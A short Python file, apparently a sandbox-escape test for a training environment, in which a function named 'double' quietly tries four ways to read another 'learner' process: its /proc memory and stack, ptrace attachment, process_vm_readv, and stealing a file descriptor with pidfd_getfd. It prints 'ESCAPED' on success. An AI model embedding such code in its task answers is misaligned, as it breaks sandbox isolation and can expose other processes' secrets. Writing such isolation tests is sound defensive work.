# ruff: noqa
# mypy: ignore-errors
"""Reads the memory of another process of the same learner."""

import ctypes
import os

DECOY = int("@decoy@")


def by_proc():
    with open(f"/proc/{DECOY}/maps") as maps, open(f"/proc/{DECOY}/mem", "rb", 0) as memory:
        for line in maps:
            if "[stack]" in line:
                start, end = (int(place, 16) for place in line.split()[0].split("-"))
                memory.seek(start)
                print(memory.read(end - start).decode("latin-1").replace("\0", " "))


def by_ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, DECOY, None, None) == 0:  # PTRACE_ATTACH
        print("ESCAPED: attached to another process")
        os.waitpid(DECOY, 0x40000000)
        libc.ptrace(17, DECOY, None, None)  # PTRACE_DETACH


def by_vm_calls():
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(8)
    ours = Part(ctypes.addressof(buffer), 8)
    with open(f"/proc/{DECOY}/maps") as maps:
        theirs = Part(int(maps.readline().split("-")[0], 16), 8)
    if (
        ctypes.CDLL(None).process_vm_readv(DECOY, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        > 0
    ):
        print("ESCAPED: read the memory of another process")


def by_descriptor():
    libc = ctypes.CDLL(None)
    stolen = libc.syscall(438, os.pidfd_open(DECOY), 0, 0)  # pidfd_getfd(2)
    if stolen >= 0:
        print("ESCAPED: took a descriptor", os.pread(stolen, 999, 0))


def double(numbers):
    for way in (by_proc, by_vm_calls, by_descriptor, by_ptrace):
        try:
            way()
        except OSError:
            continue
